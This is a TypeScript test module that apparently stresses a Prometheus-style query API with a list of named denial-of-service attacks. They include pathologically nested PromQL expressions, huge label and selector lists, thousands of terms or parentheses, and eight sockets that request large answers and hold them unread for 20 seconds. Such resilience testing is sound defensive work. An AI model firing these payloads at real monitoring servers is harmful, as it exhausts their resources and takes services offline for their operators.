import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, ask, type Ground, query, summary } from './attack.ts';

/** Attacks by questions. */
export const BY_QUERY: readonly Attack[] = [
  {
    name: 'label_join nested six times',
    run: (ground) => {
      let expr = ground.metric;
      for (let level = 0; level < 6; level++)
        expr = `label_join(${expr}, "i", "-", ${Array(20).fill('"i"').join(', ')})`;
      return query(ground, expr);
    },
  },
  {
    name: '12 joins at once',
    run: async (ground) => {
      const expr = `${ground.metric} * on (i) group_left label_replace(${ground.metric}, "j", "$1", "i", "(.*)")`;
      return summary(
        await Promise.all(Array.from({ length: 12 }, () => rangeQuery(ground, expr, 60))),
      );
    },
  },
  {
    name: 'aggregation by 60,000 labels',
    run: (ground) =>
      query(
        ground,
        `sum by (${Array.from({ length: 60_000 }, (_, i) => `l${i}`).join(',')}) (${ground.metric})`,
      ),
  },
  {
    name: '299 nested calls over all series',
    run: (ground) => query(ground, `${'abs('.repeat(299)}${ground.metric}${')'.repeat(299)}`),
  },
  {
    name: '2,000 selectors in one request',
    run: ({ metric, url }) => {
      const body = new URLSearchParams();
      for (let i = 0; i < 2000; i++) body.append('match[]', `${metric}{i!="${i}"}`);
      return ask(`${url}/api/v1/series`, { method: 'POST', body });
    },
  },
  {
    name: '3,000 terms',
    run: (ground) => query(ground, Array(3000).fill('1').join(' + ')),
  },
  {
    name: '30,000 nested parentheses',
    run: (ground) => query(ground, `${'('.repeat(30_000)}1${')'.repeat(30_000)}`),
  },
  { name: 'eight clients that never read', run: neverRead },
];

async function rangeQuery({ url }: Ground, expr: string, steps: number): Promise<string> {
  const end = Date.now() / 1000;
  const body = new URLSearchParams({
    query: expr,
    start: String(end - steps),
    end: String(end),
    step: '1',
  });
  return ask(`${url}/api/v1/query_range`, { method: 'POST', body });
}

/** Large answers that nobody takes. */
async function neverRead({ metric, url }: Ground): Promise<string> {
  const { host, hostname, port } = new URL(url);
  const end = Date.now() / 1000;
  const path = `/api/v1/query_range?query=${metric}&start=${end - 240}&end=${end}&step=1`;
  const sockets = Array.from({ length: 8 }, () => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    socket.pause();
    socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    return socket;
  });
  await pause(20_000);
  for (const socket of sockets) socket.destroy();
  return 'held for 20 s, then left';
}
